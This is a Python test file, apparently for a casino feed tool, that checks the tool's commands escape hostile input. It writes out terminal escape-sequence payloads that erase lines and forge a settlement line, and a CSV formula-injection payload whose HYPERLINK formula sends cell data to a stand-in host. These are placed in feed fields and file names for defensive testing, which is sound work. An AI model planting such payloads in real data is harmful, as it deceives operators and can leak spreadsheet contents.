"""Texts of others on a terminal, in a file and in a spreadsheet: they are shown, and obeyed by no program."""

import csv
import json
import os
import pty
import re
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from pathlib import Path
from typing import Any, Final

import pytest

from controller.domain import UNFIT
from tests.forked_process import command

ERASES: Final = (
    "x)\u001b[1A\u001b[2K\u001b[1;31m\nround 1 settled 900.00\r\u0007\u0008\u009b2J\u202e71-D\u2028\u007f"
)
"""Moves up, erases a line, forges one, rings, turns the direction of writing round."""

OWN: Final = re.compile("\x1b\\[[0-9;]*m")
"""The colours that the program itself gives to a terminal."""


def hostile_feed(folder: Path) -> Path:
    header = {
        "feed": 1,
        "table": f"B{ERASES}",
        "rules": "it",
        "rule_overrides": {},
        "currency": "EUR",
        "started_at": "2026-11-20T19:00:00Z",
    }
    cards = [{"t": 3 + at, "obs": "card", "rank": rank} for at, rank in enumerate(("9", "6", "10", None))]
    lines: list[dict[str, Any]] = [
        header,
        {"t": 0, "obs": "dealer", "id": f"D{ERASES}", "at": "in"},
        {"t": 1, "obs": "bet", "box": 1, "seat": 0, "stake": 400},
        {"t": 2, "obs": "close"},
        *cards,
        {"t": 8, "obs": "decision", "box": 1, "hand": 1, "action": "stand"},
        {"t": 9, "obs": "void", "box": 1, "by": f"pit:{ERASES}", "reason": ERASES},
        {"t": 10, "obs": "note", "text": ERASES, "by": f"n{ERASES}"},
        {"t": 12, "obs": "reveal", "rank": "10"},
        {"t": 13, "obs": "card", "rank": "5"},
        {"t": 14, "obs": "end"},
    ]
    path = folder / "hostile.feed.jsonl"
    path.write_text("".join(json.dumps(line) + "\n" for line in lines))
    return path


def on_a_terminal(*arguments: str) -> str:
    """What a command writes to a real terminal, without its sign of progress on standard error."""
    terminal, far_end = pty.openpty()
    with ThreadPoolExecutor(1) as aside:
        said = aside.submit(_read_all, terminal)
        command(*arguments, out=os.ttyname(far_end))
        os.close(far_end)
        shown = said.result(30).decode()
    os.close(terminal)
    return shown


def _read_all(terminal: int) -> bytes:
    """Read until the far end is closed everywhere, which a terminal tells by an error."""
    said = b""
    with suppress(OSError):
        while part := os.read(terminal, 65536):
            said += part
    return said


def into_a_file(*arguments: str) -> str:
    done = command(*arguments)
    return done.stdout + done.stderr


@pytest.mark.parametrize(
    "words",
    [
        ("show", "{feed}", "--round", "1"),
        ("show", "{feed}", "--round", "1", "--table"),
        ("show", "{feed}", "--round", "1", "--json"),
        ("report", "{feed}"),
        ("report", "{feed}", "--json"),
        ("replay", "{feed}"),
        ("replay", "{feed}", "--json"),
        ("replay", "{feed}", "--table"),
        ("diff", "{feed}", "--rules", "de"),
        ("verify", "{feed}"),
        ("books", "{feed}"),
    ],
    ids=" ".join,
)
def test_no_command_prints_what_a_terminal_would_obey(tmp_path: Path, words: tuple[str, ...]) -> None:
    feed = str(hostile_feed(tmp_path))
    arguments = [one.format(feed=feed) for one in words]
    for said in (into_a_file(*arguments), OWN.sub("", on_a_terminal(*arguments)).replace("\r\n", "\n")):
        lines = said.split("\n")
        assert not [line for line in lines if UNFIT.search(line.replace("\t", ""))], said
        assert not [line for line in lines if line.startswith("round 1 settled 900.00")], said
    if words[0] in ("show", "report") and "--table" not in words:
        assert "\\u001b[1A" in said


def test_the_name_of_a_file_is_escaped_too(tmp_path: Path) -> None:
    feed = hostile_feed(tmp_path)
    odd = feed.rename(tmp_path / "a\u001b[2K\udce4.feed.jsonl")
    missing = str(odd.with_name("\u001bno"))
    for said in (into_a_file("replay", str(odd)), into_a_file("show", missing, "--round", "1")):
        assert not [line for line in said.split("\n") if UNFIT.search(line)], said


def test_a_cell_of_a_spreadsheet_is_no_formula(tmp_path: Path) -> None:
    feed = hostile_feed(tmp_path)
    formula = '=HYPERLINK("http://x/?"&A1)'
    feed.write_text(feed.read_text().replace(json.dumps(f"B{ERASES}"), json.dumps(formula)))
    out = tmp_path / "report.csv"
    assert into_a_file("report", str(feed), "--out", str(out)) == ""
    with out.open(newline="") as file:
        (row,) = csv.DictReader(file)
    assert row["table"] == f"'{formula}"
    assert not [cell for cell in row.values() if re.match(r"[=+@\t\r]|-[^0-9]", cell)]
